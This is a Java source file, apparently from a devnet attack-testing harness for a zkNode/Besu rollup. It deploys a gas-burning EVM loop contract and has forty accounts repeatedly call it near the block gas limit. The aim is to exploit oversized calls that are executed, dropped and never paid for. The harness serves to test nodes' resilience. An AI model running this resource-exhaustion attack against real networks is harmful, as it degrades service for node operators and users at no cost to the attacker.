/*
 * Copyright contributors to zkNode for Besu.
 * SPDX-License-Identifier: Apache-2.0
 */
package org.zknode.launcher.attack;

import java.math.BigInteger;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.function.BooleanSupplier;
import org.apache.tuweni.bytes.Bytes;
import org.zknode.eth.Address;
import org.zknode.eth.PrivateKey;
import org.zknode.launcher.LauncherException;
import org.zknode.launcher.devnet.Devnet;
import org.zknode.launcher.devnet.Pause;

/**
 * Calls that use more of a metered resource than a whole batch has: they are executed, thrown away
 * and cost nothing. Sent again with another value as soon as they are dropped.
 */
final class UnpaidExecution implements Attack {
  private static final int ACCOUNTS = 40;

  /** JUMPDEST, KECCAK256 of nothing, POP, again: until the gas is used up. */
  private static final Bytes LOOP = Bytes.fromHexString("0x5b5f5f20505f56");

  /** Copies the code behind it into memory and returns it. */
  private static final Bytes INIT =
      Bytes.concatenate(Bytes.fromHexString("0x6007600a5f3960075ff3"), LOOP);

  private static final long CREATE_GAS = 200_000;
  private static final BigInteger FUNDS = BigInteger.TEN.pow(18);
  private static final Duration ROUND = Duration.ofMillis(500);

  private final Field field;
  private final Wallets wallets;
  private Address contract;

  UnpaidExecution(final Field field) {
    this.field = field;
    this.wallets = field.wallets("unpaid execution", ACCOUNTS);
  }

  @Override
  public AttackName name() {
    return AttackName.UNPAID_EXECUTION;
  }

  @Override
  public String what() {
    return "%d accounts call a loop that needs more than a batch has, again and again"
        .formatted(ACCOUNTS);
  }

  @Override
  public void prepare() {
    wallets.fund(field.purse(), FUNDS);
    final PrivateKey deployer = wallets.keys().getFirst();
    final long nonce = wallets.nonce(deployer.address(), "pending");
    contract = Creation.address(deployer.address(), nonce);
    Creation.send(
        field.main(),
        wallets.legacy(
            deployer,
            nonce,
            Prices.ask(field.main()).gasPrice(),
            Optional.empty(),
            BigInteger.ZERO,
            INIT,
            CREATE_GAS));
  }

  @Override
  public void run(final BooleanSupplier goesOn, final Ledger ledger) {
    final List<PrivateKey> keys = wallets.keys();
    long round = 1;
    while (goesOn.getAsBoolean()) {
      final BigInteger value = BigInteger.valueOf(round++);
      final BigInteger gasPrice = price();
      final List<Runnable> calls = new ArrayList<>();
      for (final PrivateKey key : keys) {
        calls.add(() -> call(key, gasPrice, value, ledger));
      }
      try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
        calls.forEach(threads::execute);
      }
      Pause.of(ROUND);
    }
  }

  private BigInteger price() {
    try {
      return Prices.ask(field.main()).gasPrice();
    } catch (final LauncherException busy) {
      return BigInteger.TEN.pow(9);
    }
  }

  private void call(
      final PrivateKey key,
      final BigInteger gasPrice,
      final BigInteger value,
      final Ledger ledger) {
    Sending.send(
        field.main(),
        wallets.legacy(
            key,
            wallets.nonce(key.address(), "latest"),
            gasPrice,
            Optional.of(contract),
            value,
            Bytes.EMPTY,
            Devnet.BLOCK_GAS_LIMIT - 100_000),
        ledger);
  }
}
